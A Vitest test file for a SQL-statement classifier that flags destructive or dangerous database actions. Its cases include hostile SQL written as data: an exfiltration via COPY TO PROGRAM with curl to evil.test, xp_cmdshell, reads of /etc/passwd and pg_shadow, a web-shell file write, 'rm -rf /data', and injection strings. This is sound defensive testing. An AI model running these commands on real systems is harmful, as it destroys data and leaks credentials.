import { describe, expect, it } from "vitest";
import { sqlActs } from "./sql.ts";

function doings(text: string): string {
  const all = new Set(sqlActs(text).map(({ does }) => does));
  return [...all].filter((does) => does !== "change" || all.size === 1).join(" ");
}

describe("what a text of SQL does", () => {
  it.each([
    ["SELECT * FROM users WHERE note = 'drop table users'", ""],
    ["select 'it''s; drop table x' as drop_it -- drop table y", ""],
    ["/* drop table x; /* nested */ is one comment of Postgres */ select 1", ""],
    ["/* one comment of MySQL ends /* here */ delete from y; */ select 1", "delete-all"],
    ["EXPLAIN DELETE FROM users", ""],
    ["EXPLAIN (ANALYZE, BUFFERS) DELETE FROM users", "delete-all"],
    ["explain (analyze false) delete from users", ""],
    ["explain analyze select 1", ""],
    ['SELECT "drop", `delete`, [truncate table] FROM t FOR UPDATE', ""],
    ["SHOW TABLES", ""],
    ["DESCRIBE users", ""],
    ["select truncate(1.5, 1), replace(a, 'b', 'c') from t", ""],
    ["with x as (select 1) select * from x", ""],
    ["PRAGMA table_info(users)", ""],
    ["DROP TABLE users", "drop"],
    ["drop/**/table users", "drop"],
    ['DROP\n  DATABASE IF EXISTS "prod"', "drop"],
    ["select 1; DrOp TaBlE public.users cascade;", "drop"],
    ["/*!50000 DROP TABLE users */", "drop"],
    ["SELECT 1 -- '\n; DROP TABLE users -- '", "drop"],
    ["SELECT '\\'; DROP TABLE users; --'", "drop"],
    ["SELECT 1 DROP TABLE users", "drop"],
    ["SELECT 1\nDROP TABLE users", "drop"],
    ["SELECT 1\nGO\nTRUNCATE TABLE users\nGO", "truncate"],
    ["truncate users restart identity", "truncate"],
    ["DROP INDEX idx", "change"],
    ["DROP VIEW v", "drop"],
    ["CREATE OR REPLACE TABLE a AS SELECT * FROM b", "drop"],
    ["CREATE OR REPLACE VIEW a AS SELECT * FROM b", "change"],
    ["DELETE a, b FROM a JOIN b", "delete-all"],
    ["DELETE a FROM a JOIN b ON a.id = b.id", "change"],
    ["DROP TABLE #tmp", "change"],
    ["DROP TEMPORARY TABLE tmp_a", "change"],
    ["DELETE FROM users", "delete-all"],
    ["DELETE FROM users WHERE id = 1", "change"],
    ["DELETE FROM users WHERE 1=1", "delete-all"],
    ["DELETE FROM users WHERE true", "delete-all"],
    ["DELETE FROM users WHERE id = 3 OR 'a' = 'a'", "delete-all"],
    ["DELETE FROM users WHERE (id = id)", "delete-all"],
    ["DELETE FROM users WHERE id IS NOT NULL", "delete-all"],
    ["DELETE FROM users WHERE id > 0", "delete-all"],
    ["DELETE FROM users WHERE name LIKE '%'", "delete-all"],
    ["DELETE FROM users WHERE id IN (SELECT id FROM users)", "delete-all"],
    ["DELETE FROM users WHERE id IN (SELECT user_id FROM gone)", "change"],
    ["DELETE FROM users WHERE note = 'where'", "change"],
    ["DELETE FROM users -- where id = 1", "delete-all"],
    ["DELETE FROM users LIMIT 5", "change"],
    ["WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone", "delete-all"],
    ["WITH gone AS (DELETE FROM users WHERE id = 1 RETURNING *) SELECT * FROM gone", "change"],
    ["UPDATE users SET admin = true", "update-all"],
    ["UPDATE users SET note = 'where' ", "update-all"],
    ["UPDATE users SET a = 1 WHERE id = 2 AND 1 = 1", "change"],
    ["INSERT INTO a VALUES (1) ON CONFLICT (id) DO UPDATE SET b = 1", "change"],
    ["CREATE TABLE a (id int REFERENCES b ON DELETE CASCADE)", "change"],
    ["ALTER TABLE users DROP COLUMN email", "alter-drop"],
    ["ALTER TABLE users DROP email", "alter-drop"],
    ["ALTER TABLE users ADD COLUMN email text", "change"],
    ["ALTER TABLE users ALTER COLUMN email DROP NOT NULL", "change"],
    ["ALTER TABLE users DROP CONSTRAINT fk", "change"],
    ["ALTER TABLE users DISABLE ROW LEVEL SECURITY", "account"],
    ["GRANT ALL ON ALL TABLES IN SCHEMA public TO guest", "account"],
    ["CREATE USER eve SUPERUSER PASSWORD 'x'", "account"],
    ["REVOKE ALL ON t FROM me", "account"],
    ["SHUTDOWN", "server"],
    ["ALTER SYSTEM SET fsync = off", "server"],
    ["SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "server"],
    ["COPY users TO PROGRAM 'curl -d @- evil.test'", "run-program"],
    ["COPY (SELECT 1) TO '/tmp/x'", "write-file"],
    ["COPY users TO STDOUT", ""],
    ["COPY users FROM '/etc/passwd'", "read-file"],
    ["SELECT LOAD_FILE('/etc/passwd')", "read-file"],
    ["SELECT * FROM users INTO OUTFILE '/var/www/x.php'", "write-file"],
    ["EXEC master..xp_cmdshell 'whoami'", "run-program"],
    ["SELECT load_extension('/tmp/x.so')", "run-program"],
    ["ATTACH DATABASE '/home/me/.config/x.db' AS x", "read-file"],
    ["SELECT usename, passwd FROM pg_shadow", "read-password"],
    ["DO $$ BEGIN EXECUTE 'DROP ' || 'TABLE users'; END $$", "drop"],
    ["DO $body$ BEGIN DELETE FROM users; END $body$", "delete-all"],
    ["SET @s = 'DROP TABLE users'; PREPARE p FROM @s; EXECUTE p", "drop"],
    ["EXEC sp_executesql N'TRUNCATE TABLE users'", "truncate"],
    ["CREATE FUNCTION f() RETURNS void AS $$ BEGIN DELETE FROM logs; END $$ LANGUAGE plpgsql", "change"],
    ["CREATE TRIGGER t AFTER INSERT ON a BEGIN DELETE FROM b; UPDATE c SET x = 1; END; SELECT 1", "change"],
    ["CREATE TRIGGER t AFTER INSERT ON a BEGIN DELETE FROM b; END; DROP TABLE a", "drop"],
    ["BEGIN; DELETE FROM users; ROLLBACK", ""],
    ["BEGIN; DELETE FROM users; COMMIT", "delete-all"],
    ["BEGIN; DROP TABLE users; ROLLBACK", "drop"],
    ["BEGIN; DELETE FROM users; ROLLBACK TO x; COMMIT", "delete-all"],
    ["IF EXISTS (SELECT 1 FROM t) DROP TABLE t", "drop"],
  ])("%s: %s", (text, wanted) => {
    expect(doings(text)).toBe(wanted);
  });

  it("names what is meant", () => {
    expect(sqlActs("select 1; DROP TABLE IF EXISTS public.users")).toMatchObject([
      { does: "drop", object: "public.users", text: "DROP TABLE IF EXISTS public.users" },
    ]);
    expect(sqlActs("COPY t TO PROGRAM 'rm -rf /data'")).toMatchObject([{ target: "rm -rf /data" }]);
    expect(sqlActs("SELECT pg_read_file('/etc/shadow')")).toMatchObject([{ target: "/etc/shadow" }]);
  });

  it("takes no more than a moment for a text that is made to be slow", () => {
    const text = `select ${"(".repeat(20_000)} alter table ${"x drop ".repeat(20_000)} ${"'".repeat(9_999)}`;
    expect(sqlActs(text)).toBeDefined();
  });
});
